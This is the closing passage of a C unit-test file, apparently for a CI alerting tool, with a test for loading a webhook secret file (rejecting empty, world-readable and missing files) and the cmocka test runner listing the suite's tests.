	assert_string_equal(sec, "topsecret");
	alerts_secret_free(sec);
	fd = open(path, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "\n", 1), 1);
	close(fd);
	assert_int_equal(alerts_load_secret(path, &sec), -EINVAL);
	assert_null(sec);
	/* a secret other users can read is refused */
	fd = open(path, O_WRONLY | O_TRUNC);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, "s3\n", 3), 3);
	close(fd);
	assert_int_equal(chmod(path, 0644), 0);
	assert_int_equal(alerts_load_secret(path, &sec), -EPERM);
	assert_null(sec);
	unlink(path);
	assert_int_equal(alerts_load_secret(path, &sec), -ENOENT);
	assert_null(sec);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_format),
		cmocka_unit_test(test_ci_github),
		cmocka_unit_test(test_ci_gitlab_jenkins_local),
		cmocka_unit_test(test_ci_from_block),
		cmocka_unit_test(test_hmac_vectors),
		cmocka_unit_test(test_slack_payload),
		cmocka_unit_test(test_slack_limits_and_bad_bytes),
		cmocka_unit_test(test_teams_payload),
		cmocka_unit_test(test_generic_payload),
		cmocka_unit_test(test_dedup_window),
		cmocka_unit_test(test_dedup_finish_and_expired),
		cmocka_unit_test(test_send_sign_and_dedup),
		cmocka_unit_test(test_summary_at_window_end),
		cmocka_unit_test(test_dedup_per_job),
		cmocka_unit_test(test_retry_then_ok),
		cmocka_unit_test(test_4xx_no_retry),
		cmocka_unit_test(test_receiver_down),
		cmocka_unit_test(test_hanging_receiver_bounded),
		cmocka_unit_test(test_bad_config),
		cmocka_unit_test(test_load_secret),
	};

	log_set_level(BW_LOG_ERROR); /* expected failures would be noise */
	return cmocka_run_group_tests(tests, NULL, NULL);
}
